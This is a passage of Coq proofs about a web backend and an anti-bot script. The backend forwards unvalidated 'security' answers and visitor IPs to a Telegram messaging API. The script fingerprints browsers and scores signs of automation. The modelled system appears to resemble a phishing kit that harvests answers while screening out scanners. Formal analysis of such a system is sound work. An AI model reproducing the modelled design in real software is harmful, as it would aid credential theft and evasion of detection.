  Unmarshal_BotActivity bodyBytes = inl decoded ->
  w_status (run (logBotActivityHandler W r)) = Some StatusOK /\
  w_body (run (logBotActivityHandler W r)) = botActivityBody /\
  w_header (run (logBotActivityHandler W r)) =
    <[ "Content-Type" := "application/json" ]>
      (<[ "Access-Control-Allow-Headers" := "Content-Type" ]>
         (<[ "Access-Control-Allow-Methods" := "POST, OPTIONS" ]>
            (<[ "Access-Control-Allow-Origin" := "*" ]> ∅))) /\
  (forall e,
     deliveryError W (botActivityMessage (received r decoded)) = Some e ->
     last (logged (run (logBotActivityHandler W r)))
       = Some ("Failed to send bot activity to Telegram: " ++ e)).
Proof.
  intros Hm Hbody Hdec.
  destruct (report_decoded W r bodyBytes decoded Hm Hbody Hdec)
    as (? & ? & ? & _ & ?).
  auto.
Qed.

Lemma report_always_succeeds_witness :
  w_status (run (logBotActivityHandler worldDown
                   (jsonPost "/log-bot-activity" reportBody))) = Some StatusOK /\
  w_body (run (logBotActivityHandler worldDown
                 (jsonPost "/log-bot-activity" reportBody))) = botActivityBody.
Proof.
  destruct (report_always_succeeds worldDown
              (jsonPost "/log-bot-activity" reportBody) reportBody
              {| Score := 4; Fingerprint := "fp"; Timestamp := epoch; IP := "" |})
    as (Hs & Hb & _).
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - split; assumption.
Defined.

(** C9.  [securityHandler] checks nothing about the answers: for a POST
    with one of the two supported content types and a body that parses,
    whatever the three answers are (all empty included), the message
    built from them is posted to the messaging API of a configured
    server, and when that call is answered 200 the handler answers 200
    with the fixed success body. *)
Theorem security_no_validation `{Lib : GoLib} (W : World) (r : Request)
    (answer1 answer2 answer3 : string) :
  Method r = "POST" ->
  parsedAnswers r answer1 answer2 answer3 ->
  configured W = true ->
  let message :=
    securityMessage answer1 answer2 answer3 (clientIP r)
      (Format_RFC3339 (Now W)) in
  posted (run (securityHandler W r)) = [ (apiURL W, telegramForm W message) ] /\
  ((exists body,
      PostForm W (apiURL W) (telegramForm W message) = PostResponds StatusOK body) ->
   w_status (run (securityHandler W r)) = Some StatusOK /\
   w_body (run (securityHandler W r)) = securitySuccessBody).
Proof.
  intros Hm Hparsed Hconf message.
  rewrite (security_parsed W r answer1 answer2 answer3 Hm Hparsed).
  match goal with
  | |- context [ securityDeliver W r answer1 answer2 answer3 ?x ] =>
      destruct (security_deliver W r answer1 answer2 answer3 x)
        as (Hposted & _ & Hok); try reflexivity
  end.
  split.
  - rewrite Hposted. unfold deliveries. by rewrite Hconf.
  - intros Hanswer. apply Hok. apply deliveryError_None. auto.
Qed.

Lemma security_no_validation_witness :
  posted (run (securityHandler worldUp (jsonPost "/security" blankAnswersBody)))
    = [ (apiURL worldUp,
         telegramForm worldUp
           (securityMessage "" "" "" "203.0.113.7" "1970-01-01T00:00:00Z")) ] /\
  w_status (run (securityHandler worldUp (jsonPost "/security" blankAnswersBody)))
    = Some StatusOK.
Proof.
  destruct (security_no_validation worldUp (jsonPost "/security" blankAnswersBody)
              "" "" "") as (Hposted & Hok).
  - reflexivity.
  - right. split; [reflexivity|].
    exists blankAnswersBody.
    exists (<[ "answer1" := "" ]> (<[ "answer2" := "" ]> (<[ "answer3" := "" ]> ∅))).
    split_and!; vm_compute; reflexivity.
  - reflexivity.
  - split.
    + exact Hposted.
    + apply Hok. exists "ok". reflexivity.
Defined.

(** * Theorems: the scoring script *)

Import Script.

Lemma addIf_score (condition : bool) (weight : Z) (p : Page) :
  botDetectionScore (addIf condition weight p)
  = botDetectionScore p + (if condition then weight else 0).
Proof. destruct condition; cbn; lia. Qed.

Lemma firedWeight_app (l1 l2 : list (bool * Z)) :
  firedWeight (l1 ++ l2) = firedWeight l1 + firedWeight l2.
Proof.
  induction l1 as [|[f w] l1 IH]; cbn; [reflexivity|].
  rewrite IH. lia.
Qed.

Lemma firedWeight_markers (l : list bool) :
  firedWeight (map (fun f => (f, 2)) l) = 2 * Z.of_nat (fired l).
Proof.
  unfold fired. induction l as [|[|] l IH]; cbn [map firedWeight List.filter];
    [reflexivity| |].
  - rewrite IH. cbn [List.length]. lia.
  - rewrite IH. lia.
Qed.

Lemma firedWeight_nonneg (l : list (bool * Z)) :
  Forall (fun s => 0 <= snd s) l -> 0 <= firedWeight l.
Proof.
  induction 1 as [|[f w] l Hw _ IH]; cbn in *; [lia|].
  destruct f; lia.
Qed.

Lemma firedWeight_silent (l : list (bool * Z)) :
  Forall (fun s => fst s = false) l -> firedWeight l = 0.
Proof.
  induction 1 as [|[f w] l Hf _ IH]; cbn in *; [reflexivity|].
  subst f. lia.
Qed.

Lemma otherSignals_nonneg (e : Environment) :
  Forall (fun s => 0 <= snd s) (otherSignals e).
Proof. unfold otherSignals. repeat constructor; cbn; lia. Qed.

(** *** What each group adds *)

Lemma checkAutomationFlags_score (e : Environment) (p : Page) :
  botDetectionScore (checkAutomationFlags e p)
  = botDetectionScore p + firedWeight (map (fun f => (f, 2)) (automationMarkers e)).
Proof.
  unfold checkAutomationFlags, automationMarkers.
  rewrite !addIf_score. cbn [map firedWeight]. lia.
Qed.

Lemma checkBrowserConsistency_score (e : Environment) (p : Page) :
  botDetectionScore (checkBrowserConsistency e p)
  = botDetectionScore p + firedWeight (take 4 (otherSignals e)).
Proof.
  unfold checkBrowserConsistency, otherSignals.
  rewrite !addIf_score. cbn [take firedWeight]. lia.
Qed.

Lemma checkBehaviorPatterns_score (e : Environment) (p : Page) :
  botDetectionScore (checkBehaviorPatterns e p) = botDetectionScore p.
Proof. reflexivity. Qed.

Lemma checkHeadlessBrowser_score (e : Environment) (p : Page) :
  botDetectionScore (checkHeadlessBrowser e p)
  = botDetectionScore p + firedWeight (drop 4 (otherSignals e)).
Proof.
  unfold checkHeadlessBrowser, otherSignals.
  rewrite addIf_score.
  destruct (truthy (navigator_permissions e)); rewrite addIf_score;
    cbn [drop firedWeight botDetectionScore]; lia.
Qed.

Lemma detectBot_score (e : Environment) (p : Page) :
  botDetectionScore (fst (detectBot e p)) = firedWeight (signals e).
Proof.
  unfold detectBot, signals. cbn [fst].
  rewrite checkHeadlessBrowser_score, checkBehaviorPatterns_score,
    checkBrowserConsistency_score, checkAutomationFlags_score.
  rewrite firedWeight_app.
  rewrite <- (take_drop 4 (otherSignals e)) at 3.
  rewrite firedWeight_app. cbn [setScore botDetectionScore]. lia.
Qed.

Lemma detectBot_verdict (e : Environment) (p : Page) :
  snd (detectBot e p) = (BOT_THRESHOLD <=? firedWeight (signals e)).
Proof.
  rewrite <- (detectBot_score e p). reflexivity.
Qed.

(** C6.  Whatever the accumulator held before, [detectBot] leaves in it
    the sum of the weights of the signals that fire in the pass and
    answers bot exactly when that sum is at least 3.  Hence a pass in
    which nothing fires says not bot, one automation marker alone (2) is
    not enough, and two automation markers are enough. *)
Theorem detectBot_threshold (e : Environment) (p : Page) :
  botDetectionScore (fst (detectBot e p)) = firedWeight (signals e) /\
  snd (detectBot e p) = (BOT_THRESHOLD <=? firedWeight (signals e)) /\
  (Forall (fun s => fst s = false) (signals e) -> snd (detectBot e p) = false) /\
  (fired (automationMarkers e) = 1%nat ->
   Forall (fun s => fst s = false) (otherSignals e) ->
   snd (detectBot e p) = false) /\
  ((2 <= fired (automationMarkers e))%nat -> snd (detectBot e p) = true).
Proof.
  split_and!.
  - apply detectBot_score.
  - apply detectBot_verdict.
  - intros Hsilent. rewrite detectBot_verdict.
    rewrite (firedWeight_silent _ Hsilent). reflexivity.
  - intros Hone Hsilent. rewrite detectBot_verdict. unfold signals.
    rewrite firedWeight_app, firedWeight_markers, Hone.
    rewrite (firedWeight_silent _ Hsilent). reflexivity.
  - intros Htwo. rewrite detectBot_verdict. unfold signals.
    rewrite firedWeight_app, firedWeight_markers.
    pose proof (firedWeight_nonneg _ (otherSignals_nonneg e)).
    unfold BOT_THRESHOLD. apply Z.leb_le. lia.
Qed.

Lemma detectBot_threshold_witness :
  snd (detectBot driven (initAntiBotProtection driven)) = false.
Proof.
  refine (proj1 (proj2 (proj2 (proj2
            (detectBot_threshold driven (initAntiBotProtection driven))))) _ _).
  - reflexivity.
  - repeat constructor.
Defined.

(** *** The groups in any order *)

Lemma check_additive (e : Environment) (check : Check) (p : Page) :
  In check checks ->
  botDetectionScore (check e p) = botDetectionScore p + contribution check e.
Proof.
  unfold checks, contribution. cbn [In].
  intros [<-|[<-|[<-|[<-|[]]]]].
  - rewrite !checkAutomationFlags_score. cbn [blank botDetectionScore]. lia.
  - rewrite !checkBrowserConsistency_score. cbn [blank botDetectionScore]. lia.
  - rewrite !checkBehaviorPatterns_score. cbn [blank botDetectionScore]. lia.
  - rewrite !checkHeadlessBrowser_score. cbn [blank botDetectionScore]. lia.
Qed.

Lemma run_additive (e : Environment) (order : list Check) (p : Page) :
  Forall (fun check => In check checks) order ->
  botDetectionScore (fold_left (fun p check => check e p) order p)
  = botDetectionScore p
    + fold_right Z.add 0 (map (fun check => contribution check e) order).
Proof.
  intros Hin. revert p.
  induction Hin as [|check order Hcheck _ IH]; intros p; cbn [fold_left map fold_right].
  - lia.
  - rewrite IH, (check_additive e check p Hcheck). lia.
Qed.

Lemma total_permutation (l1 l2 : list Z) :
  Permutation l1 l2 -> fold_right Z.add 0 l1 = fold_right Z.add 0 l2.
Proof.
  induction 1; cbn [fold_right]; lia.
Qed.

Lemma detectBotIn_checks (e : Environment) (p : Page) :
  detectBotIn checks e p = detectBot e p.
Proof. reflexivity. Qed.

(** What a group does beside the score: the trackers it adds and the
    permission queries it starts. *)
Lemma addIf_effects (condition : bool) (weight : Z) (p : Page) :
  trackers (addIf condition weight p) = trackers p /\
  pendingQueries (addIf condition weight p) = pendingQueries p.
Proof. destruct condition; split; reflexivity. Qed.

Lemma check_effects (e : Environment) (check : Check) (q : Page) :
  In check checks ->
  List.length (trackers (check e q))
    = (List.length (trackers q) + List.length (trackers (check e blank)))%nat /\
  pendingQueries (check e q)
    = (pendingQueries q + pendingQueries (check e blank))%nat.
Proof.
  unfold checks. cbn [In].
  intros [<-|[<-|[<-|[<-|[]]]]].
  - unfold checkAutomationFlags.
    repeat rewrite (proj1 (addIf_effects _ _ _)).
    repeat rewrite (proj2 (addIf_effects _ _ _)).
    cbn. lia.
  - unfold checkBrowserConsistency.
    repeat rewrite (proj1 (addIf_effects _ _ _)).
    repeat rewrite (proj2 (addIf_effects _ _ _)).
    cbn. lia.
  - unfold checkBehaviorPatterns. cbn [trackers pendingQueries blank].
    rewrite length_app. cbn. lia.
  - unfold checkHeadlessBrowser.
    rewrite !(proj1 (addIf_effects _ _ _)), !(proj2 (addIf_effects _ _ _)).
    destruct (truthy (navigator_permissions e));
      cbn [trackers pendingQueries];
      rewrite ?(proj1 (addIf_effects _ _ _)), ?(proj2 (addIf_effects _ _ _));
      cbn; lia.
Qed.

Lemma checks_effects (e : Environment) :
  map (fun check : Check => List.length (trackers (check e blank))) checks
    = [ 0; 0; 1; 0 ]%nat /\
  map (fun check : Check => pendingQueries (check e blank)) checks
    = [ 0; 0; 0; if truthy (navigator_permissions e) then 1 else 0 ]%nat.
Proof.
  unfold checks, checkAutomationFlags, checkBrowserConsistency,
    checkBehaviorPatterns, checkHeadlessBrowser.
  cbn [map].
  repeat rewrite (proj1 (addIf_effects _ _ _)).
  repeat rewrite (proj2 (addIf_effects _ _ _)).
  destruct (truthy (navigator_permissions e));
    rewrite ?(proj1 (addIf_effects _ _ _)), ?(proj2 (addIf_effects _ _ _));
    split; reflexivity.
Qed.

Lemma run_measure (e : Environment) (m : Page -> nat) (order : list Check) :
  (forall check q, In check checks ->
     m (check e q) = (m q + m (check e blank))%nat) ->
  Forall (fun check => In check checks) order ->
  forall p,
    m (fold_left (fun p check => check e p) order p)
    = (m p + fold_right Nat.add 0%nat
               (map (fun check : Check => m (check e blank)) order))%nat.
Proof.
  intros Hm Hin.
  induction Hin as [|check order Hcheck _ IH]; intros p;
    cbn [fold_left map fold_right].
  - lia.
  - rewrite IH, (Hm check p Hcheck). lia.
Qed.

Lemma count_permutation (l1 l2 : list nat) :
  Permutation l1 l2 ->
  fold_right Nat.add 0%nat l1 = fold_right Nat.add 0%nat l2.
Proof.
  induction 1; cbn [fold_right]; lia.
Qed.

(** A signal that fires in addition can only raise the sum. *)
Lemma firedWeight_monotone (l l' : list (bool * Z)) :
  Forall2 (fun s s' => snd s = snd s' /\ 0 <= snd s /\
                       (fst s = true -> fst s' = true)) l l' ->
  firedWeight l <= firedWeight l'.
Proof.
  induction 1 as [|[f w] [f' w'] l l' (Hw & Hpos & Hf) _ IH];
    cbn [firedWeight fst snd] in *; [lia|].
  subst w'. destruct f; [rewrite (Hf eq_refl); lia|].
  destruct f'; lia.
Qed.

Lemma signals_monotone (e e' : Environment) :
  Forall2 (fun s s' => fst s = true -> fst s' = true) (signals e) (signals e') ->
  firedWeight (signals e) <= firedWeight (signals e').
Proof.
  intros H. apply firedWeight_monotone. revert H.
  unfold signals, automationMarkers, otherSignals. cbn [map app].
  intros H.
  repeat (apply Forall2_cons_1 in H as [? H]).
  repeat (apply Forall2_cons;
          split; [split_and!; [reflexivity | cbn [snd]; lia | assumption]|]).
  constructor.
Qed.

(** C7.  Within one pass the weights only add, whatever the order of the
    four groups.  For every order, the pass ends with the sum of the
    weights of all the signals that fire, each of the eleven counted by
    itself: a signal that fires in addition never lowers the score, and
    no group is skipped once the threshold is reached (the behaviour
    group has added its tracker and the headless group has started its
    permission query at the end of every pass).  Each group adds the
    weights of its own signals to whatever the accumulator holds, and the
    verdict is taken on the sum. *)
Theorem checks_commute (e : Environment) (p : Page) (order : list Check) :
  Permutation checks order ->
  botDetectionScore (fst (detectBotIn order e p)) = firedWeight (signals e) /\
  snd (detectBotIn order e p) = (BOT_THRESHOLD <=? firedWeight (signals e)) /\
  botDetectionScore (fst (detectBotIn order e p))
    = botDetectionScore (fst (detectBot e p)) /\
  snd (detectBotIn order e p) = snd (detectBot e p) /\
  (forall e',
     Forall2 (fun s s' => fst s = true -> fst s' = true) (signals e) (signals e') ->
     botDetectionScore (fst (detectBotIn order e p))
     <= botDetectionScore (fst (detectBotIn order e' p))) /\
  List.length (trackers (fst (detectBotIn order e p)))
    = S (List.length (trackers p)) /\
  pendingQueries (fst (detectBotIn order e p))
    = (pendingQueries p + if truthy (navigator_permissions e) then 1 else 0)%nat /\
  (forall q,
     botDetectionScore (checkAutomationFlags e q)
       = botDetectionScore q
         + firedWeight (map (fun f => (f, 2)) (automationMarkers e)) /\
     botDetectionScore (checkBrowserConsistency e q)
       = botDetectionScore q + firedWeight (take 4 (otherSignals e)) /\
     botDetectionScore (checkBehaviorPatterns e q) = botDetectionScore q /\
     botDetectionScore (checkHeadlessBrowser e q)
       = botDetectionScore q + firedWeight (drop 4 (otherSignals e))).
Proof.
  intros Hperm.
  assert (forall l, Permutation checks l ->
          Forall (fun check => In check checks) l) as Hin.
  { intros l Hl. apply List.Forall_forall. intros check Hcheck.
    apply (Permutation_in check (Permutation_sym Hl) Hcheck). }
  assert (forall env l, Permutation checks l ->
          botDetectionScore (fst (detectBotIn l env p))
          = firedWeight (signals env)) as Hsum.
  { intros env l Hl. unfold detectBotIn. cbn [fst].
    rewrite (run_additive env l _ (Hin l Hl)).
    cbn [setScore botDetectionScore].
    rewrite <- (total_permutation _ _
                  (Permutation_map (fun check => contribution check env) Hl)).
    rewrite <- (detectBot_score env p).
    rewrite <- detectBotIn_checks. unfold detectBotIn. cbn [fst].
    rewrite (run_additive env checks _ (Hin checks (Permutation_refl _))).
    cbn [setScore botDetectionScore]. lia. }
  assert (forall l, Permutation checks l ->
          snd (detectBotIn l e p) = (BOT_THRESHOLD <=? firedWeight (signals e)))
    as Hverdict.
  { intros l Hl. rewrite <- (Hsum e l Hl). reflexivity. }
  split_and!.
  - apply Hsum, Hperm.
  - apply Hverdict, Hperm.
  - rewrite (Hsum e order Hperm). symmetry. apply detectBot_score.
  - rewrite (Hverdict order Hperm). symmetry. apply detectBot_verdict.
  - intros e' Hmore. rewrite (Hsum e order Hperm), (Hsum e' order Hperm).
    by apply signals_monotone.
  - unfold detectBotIn. cbn [fst].
    rewrite (run_measure e (fun q => List.length (trackers q)) order
               (fun check q Hc => proj1 (check_effects e check q Hc))
               (Hin order Hperm)).
    rewrite <- (count_permutation _ _
                  (Permutation_map
                     (fun check : Check => List.length (trackers (check e blank)))
                     Hperm)).
    rewrite (proj1 (checks_effects e)). cbn. lia.
  - unfold detectBotIn. cbn [fst].
    rewrite (run_measure e pendingQueries order
               (fun check q Hc => proj2 (check_effects e check q Hc))
               (Hin order Hperm)).
    rewrite <- (count_permutation _ _
                  (Permutation_map
                     (fun check : Check => pendingQueries (check e blank))
                     Hperm)).
    rewrite (proj2 (checks_effects e)). cbn. lia.
  - intros q. split_and!.
    + apply checkAutomationFlags_score.
    + apply checkBrowserConsistency_score.
    + apply checkBehaviorPatterns_score.
    + apply checkHeadlessBrowser_score.
Qed.

Lemma checks_commute_witness :
  botDetectionScore
    (fst (detectBotIn
            [ checkHeadlessBrowser; checkBehaviorPatterns;
              checkBrowserConsistency; checkAutomationFlags ]
            headless (initAntiBotProtection headless)))
  = 18 /\
  List.length
    (trackers
       (fst (detectBotIn
               [ checkHeadlessBrowser; checkBehaviorPatterns;
                 checkBrowserConsistency; checkAutomationFlags ]
               headless (initAntiBotProtection headless))))
  = 1%nat.
Proof.
  destruct (checks_commute headless (initAntiBotProtection headless)
              [ checkHeadlessBrowser; checkBehaviorPatterns;
                checkBrowserConsistency; checkAutomationFlags ])
    as (Hscore & _ & _ & _ & _ & Htrackers & _).
  - change checks with
      ([ checkAutomationFlags; checkBrowserConsistency; checkBehaviorPatterns ]
         ++ [ checkHeadlessBrowser ])%list.
    apply Permutation_sym.
    change ([ checkHeadlessBrowser; checkBehaviorPatterns;
              checkBrowserConsistency; checkAutomationFlags ])
      with (rev ([ checkAutomationFlags; checkBrowserConsistency;
                   checkBehaviorPatterns ] ++ [ checkHeadlessBrowser ])%list).
    apply Permutation_sym, Permutation_rev.
  - split; [exact Hscore | exact Htrackers].
Defined.

(** *** The fingerprint *)

Lemma append_empty (s : string) : s ++ "" = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  change (String c (s ++ "") = String c s). by rewrite IH.
Qed.

Lemma join_from_concat (separator x : string) (l : list string) :
  x ++ join_from false separator l = String.concat separator (x :: l).
Proof.
  revert x. induction l as [|y l IH]; intros x.
  - apply append_empty.
  - cbn [join_from String.concat]. rewrite IH. reflexivity.
Qed.

Lemma join_concat (l : list string) (separator : string) :
  join l separator = String.concat separator l.
Proof.
  destruct l as [|x l]; [reflexivity|].
  unfold join. cbn [join_from]. apply (join_from_concat separator x l).
Qed.

Lemma addIf_session (condition : bool) (weight : Z) (p : Page) :
  cachedFingerprint (addIf condition weight p) = cachedFingerprint p /\
  reports (addIf condition weight p) = reports p.
Proof. destruct condition; split; reflexivity. Qed.

Lemma detectBot_session (e : Environment) (p : Page) :
  cachedFingerprint (fst (detectBot e p)) = cachedFingerprint p /\
  reports (fst (detectBot e p)) = reports p.
Proof.
  unfold detectBot, checkHeadlessBrowser, checkBehaviorPatterns,
    checkBrowserConsistency, checkAutomationFlags.
  cbn [fst].
  destruct (truthy (navigator_permissions e));
    repeat (rewrite (proj1 (addIf_session _ _ _)), (proj2 (addIf_session _ _ _))
            || cbn [cachedFingerprint reports setScore]);
    split; reflexivity.
Qed.

Lemma runListener_session (e : Environment) (website : string)
    (p : Page) (s : Submission) (l : Listener) :
  cachedFingerprint (fst (runListener e website (p, s) l)) = cachedFingerprint p /\
  reports (fst (runListener e website (p, s) l)) = reports p.
Proof.
  destruct l as [| |i]; cbn [runListener].
  - destruct (truthy (text website)); split; reflexivity.
  - pose proof (detectBot_session e p) as H.
    destruct (detectBot e p) as [p' bot]. exact H.
  - destruct (nth_error (trackers p) i); [apply addIf_session | split; reflexivity].
Qed.

Lemma listeners_session (e : Environment) (website : string)
    (ls : list Listener) (p : Page) (s : Submission) :
  cachedFingerprint (fst (fold_left (runListener e website) ls (p, s)))
    = cachedFingerprint p /\
  reports (fst (fold_left (runListener e website) ls (p, s))) = reports p.
Proof.
  revert p s. induction ls as [|l ls IH]; intros p s; cbn [fold_left].
  - split; reflexivity.
  - pose proof (runListener_session e website p s l) as [Hc Hr].
    destruct (runListener e website (p, s) l) as [p' s'].
    destruct (IH p' s') as [Hc' Hr']. cbn [fst] in *.
    split; congruence.
Qed.

Lemma step_session (e : Environment) (fp : string) (p : Page) (ev : Event) :
  sameSession fp p -> sameSession fp (fst (step e p ev)).
Proof.
  intros [Hc Hr]. destruct ev as [x y|now|website|now|state permission];
    cbn [step].
  - split; assumption.
  - split; assumption.
  - pose proof (listeners_session e website (submitListeners p) p noSubmission)
      as [Hc' Hr'].
    destruct (fold_left _ _ _) as [p' s]. cbn [fst] in *.
    split; congruence.
  - pose proof (detectBot_session e p) as [Hc' Hr'].
    destruct (detectBot e p) as [p' bot]. cbn [fst] in *.
    destruct bot; unfold sameSession; cbn [fst cachedFingerprint reports].
    + split; [congruence|]. rewrite Hr'. apply Forall_app. split; [assumption|].
      constructor; [|constructor]. cbn. congruence.
    + split; congruence.
  - destruct (pendingQueries p); [split; assumption|]. cbn [fst].
    destruct (addIf_session
                (String.eqb state "denied" && String.eqb permission "default") 1
                {| botDetectionScore := botDetectionScore p; trackers := trackers p;
                   submitListeners := submitListeners p; pendingQueries := n;
                   cachedFingerprint := cachedFingerprint p; reports := reports p |})
      as [Hc' Hr'].
    split; [rewrite Hc'|rewrite Hr']; assumption.
Qed.

Lemma play_session (e : Environment) (fp : string) (events : list Event) (p : Page) :
  sameSession fp p -> sameSession fp (fst (play e p events)).
Proof.
  revert p. induction events as [|ev events IH]; intros p Hp; cbn [play].
  - exact Hp.
  - pose proof (step_session e fp p ev Hp) as Hstep.
    destruct (step e p ev) as [p' o]. cbn [fst] in Hstep.
    specialize (IH p' Hstep).
    destruct (play e p' events) as [p'' os]. exact IH.
Qed.

(** *** Reading a fingerprint back *)

Lemma fields_other (c : ascii) (rest : string) :
  Ascii.eqb c hash = false ->
  fields (String c rest)
  = match fields rest with
    | field :: more => String c field :: more
    | [] => [ String c EmptyString ]
    end.
Proof.
  intros Hc. destruct rest as [|c2 [|c3 rest3]]; cbn [fields];
    try reflexivity.
  rewrite Hc. reflexivity.
Qed.

Lemma fields_not_nil (s : string) : fields s <> [].
Proof.
  destruct s as [|c rest]; [discriminate|].
  cbn [fields].
  repeat match goal with
         | |- context [ match ?x with _ => _ end ] => destruct x
         | |- context [ if ?b then _ else _ ] => destruct b
         end;
    discriminate.
Qed.

Lemma fields_plain (x s : string) :
  has_byte hash x = false ->
  fields (x ++ s) = (x ++ hd "" (fields s)) :: tl (fields s).
Proof.
  induction x as [|c x IH]; intros Hx.
  - pose proof (fields_not_nil s).
    change (fields s = hd "" (fields s) :: tl (fields s)).
    by destruct (fields s).
  - cbn [has_byte] in Hx. apply orb_false_iff in Hx as [Hc Hx].
    change (String c x ++ s) with (String c (x ++ s)).
    rewrite (fields_other c _ Hc), (IH Hx). reflexivity.
Qed.

Lemma fields_join (l : list string) (x : string) :
  has_byte hash x = false ->
  Forall (fun field => has_byte hash field = false) l ->
  fields (x ++ join_from false "###" l) = x :: l.
Proof.
  intros Hx Hl. revert x Hx.
  induction Hl as [|y l Hy _ IH]; intros x Hx.
  - rewrite (fields_plain x _ Hx). cbn. by rewrite append_empty.
  - rewrite (fields_plain x _ Hx).
    change (join_from false "###" (y :: l))
      with ("###" ++ (y ++ join_from false "###" l)).
    change (fields ("###" ++ (y ++ join_from false "###" l)))
      with ("" :: fields (y ++ join_from false "###" l)).
    cbn [hd tl]. by rewrite append_empty, (IH y Hy).
Qed.

(** C8.  The fingerprint is the ten attributes of the environment in
    the order of the source (agent string, language, colour depth, time
    zone offset, screen size, processors or unknown, memory or unknown,
    the three storage flags), each followed by three hash signs but the
    last.  It is a function of these attributes alone: environments
    that agree on them get the same string; and, attributes without a
    hash sign being read back one by one from the string, environments
    that differ on one of them get different strings.  The page
    computes it once; whatever events follow, in whatever environment,
    the cached string and the fingerprint of every report sent are that
    same string. *)
Theorem fingerprint_deterministic (e e' later : Environment) (events : list Event) :
  components e = components e' ->
  generateFingerprint e = generateFingerprint e' /\
  generateFingerprint e
  = navigator_userAgent e ++ "###"
    ++ navigator_language e ++ "###"
    ++ pretty (screen_colorDepth e) ++ "###"
    ++ pretty (timezoneOffset e) ++ "###"
    ++ (pretty (screen_width e) ++ "x" ++ pretty (screen_height e)) ++ "###"
    ++ match navigator_hardwareConcurrency e with
       | Some n => if (n =? 0)%N then "unknown" else pretty n
       | None => "unknown"
       end ++ "###"
    ++ match navigator_deviceMemory e with
       | Some q => if (q =? 0)%N then "unknown" else quarters q
       | None => "unknown"
       end ++ "###"
    ++ boolean_text (truthy (window_localStorage e)) ++ "###"
    ++ boolean_text (truthy (window_sessionStorage e)) ++ "###"
    ++ boolean_text (truthy (window_indexedDB e)) /\
  generateFingerprint e = String.concat "###" (components e) /\
  List.length (components e) = 10%nat /\
  (Forall (fun field => has_byte hash field = false) (components e) ->
   fields (generateFingerprint e) = components e /\
   forall other,
     Forall (fun field => has_byte hash field = false) (components other) ->
     generateFingerprint other = generateFingerprint e ->
     components other = components e) /\
  cachedFingerprint (fst (play later (initAntiBotProtection e) events))
    = generateFingerprint e' /\
  Forall (fun r => fingerprint r = generateFingerprint e')
    (reports (fst (play later (initAntiBotProtection e) events))).
Proof.
  intros Hsame.
  assert (generateFingerprint e = generateFingerprint e') as Heq.
  { unfold generateFingerprint. by rewrite Hsame. }
  assert (forall env,
            Forall (fun field => has_byte hash field = false) (components env) ->
            fields (generateFingerprint env) = components env) as Hread.
  { intros env Hplain. unfold generateFingerprint, join.
    remember (components env) as l eqn:Hl.
    destruct l as [|x l]; [discriminate Hl|].
    apply Forall_cons in Hplain as [Hx Hrest].
    cbn [join_from]. change ("" ++ x ++ join_from false "###" l)
      with (x ++ join_from false "###" l).
    by apply fields_join. }
  split_and!.
  - exact Heq.
  - unfold generateFingerprint, join, components. cbn [join_from].
    by rewrite append_empty.
  - apply join_concat.
  - reflexivity.
  - intros Hplain. split; [by apply Hread|].
    intros other Hother Hfp.
    rewrite <- (Hread other Hother), <- (Hread e Hplain). by rewrite Hfp.
  - rewrite <- Heq. apply play_session. split; [reflexivity|constructor].
  - rewrite <- Heq. apply play_session. split; [reflexivity|constructor].
Qed.

Lemma fingerprint_deterministic_witness :
  generateFingerprint desktop = generateFingerprint driven /\
  fields (generateFingerprint desktop)
  = [ "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
      "en-US"; "24"; "-60"; "1920x1080"; "8"; "8"; "true"; "true"; "true" ] /\
  List.length
    (reports (fst (play headless (initAntiBotProtection desktop)
                     [ tick "2024-01-01T00:00:05.000Z";
                       submit ""; tick "2024-01-01T00:00:10.000Z" ]))) = 2%nat /\
  Forall (fun r => fingerprint r = generateFingerprint driven)
    (reports (fst (play headless (initAntiBotProtection desktop)
                     [ tick "2024-01-01T00:00:05.000Z";
                       submit ""; tick "2024-01-01T00:00:10.000Z" ]))).
Proof.
  destruct (fingerprint_deterministic desktop driven headless
              [ tick "2024-01-01T00:00:05.000Z";
                submit ""; tick "2024-01-01T00:00:10.000Z" ])
    as (Heq & _ & _ & _ & Hread & _ & Hreports).
  - reflexivity.
  - destruct Hread as [Hfields _].
    + repeat constructor.
    + split_and!; [exact Heq | exact Hfields | reflexivity | exact Hreports].
Defined.

(** *** Submit events on a page the script set up *)

Lemma addIf_frame (condition : bool) (weight : Z) (p : Page) :
  frame (addIf condition weight p) = frame p.
Proof. by destruct condition. Qed.

Lemma detectBot_frame (e : Environment) (p : Page) :
  frame (fst (detectBot e p))
  = ((trackers p ++ [ newTracker ])%list,
     (submitListeners p ++ [ behaviorListener (List.length (trackers p)) ])%list).
Proof.
  unfold detectBot, checkHeadlessBrowser. cbn [fst].
  rewrite addIf_frame.
  assert (forall q, frame (if truthy (navigator_permissions e) then
                      {| botDetectionScore := botDetectionScore q;
                         trackers := trackers q;
                         submitListeners := submitListeners q;
                         pendingQueries := S (pendingQueries q);
                         cachedFingerprint := cachedFingerprint q;
                         reports := reports q |}
                    else q) = frame q) as ->.
  { intros q. by destruct (truthy (navigator_permissions e)). }
  rewrite addIf_frame.
  unfold checkBehaviorPatterns, frame at 1.
  cbn [trackers submitListeners].
  assert (frame (checkBrowserConsistency e (checkAutomationFlags e (setScore 0 p)))
          = frame p) as Hframe.
  { unfold checkBrowserConsistency, checkAutomationFlags.
    by rewrite !addIf_frame. }
  injection Hframe as -> ->. reflexivity.
Qed.

Lemma behavior_listeners (e : Environment) (website : string) (indices : list nat)
    (p : Page) (s : Submission) :
  snd (fold_left (runListener e website) (map behaviorListener indices) (p, s)) = s /\
  frame (fst (fold_left (runListener e website) (map behaviorListener indices) (p, s)))
    = frame p.
Proof.
  revert p. induction indices as [|i indices IH]; intros p; cbn [map fold_left].
  - split; reflexivity.
  - cbn [runListener]. destruct (nth_error (trackers p) i) as [t|].
    + destruct (IH (addIf (mouseMovements t <? 5) 1 p)) as [Hs Hf].
      split; [exact Hs|]. rewrite Hf. apply addIf_frame.
    + apply IH.
Qed.

(** On a page the script set up, a submit event runs the honeypot
    listener, then [detectBot], then the behavior listeners of the earlier
    passes. *)
Lemma submit_installed (e : Environment) (website : string) (p : Page) :
  installed p ->
  exists p' s,
    step e p (submit website) = (p', submitted s) /\
    verdict s = Some (BOT_THRESHOLD <=? firedWeight (signals e)) /\
    scoreAtVerdict s = firedWeight (signals e) /\
    installed p'.
Proof.
  intros Hp. cbn [step]. rewrite Hp. cbn [fold_left].
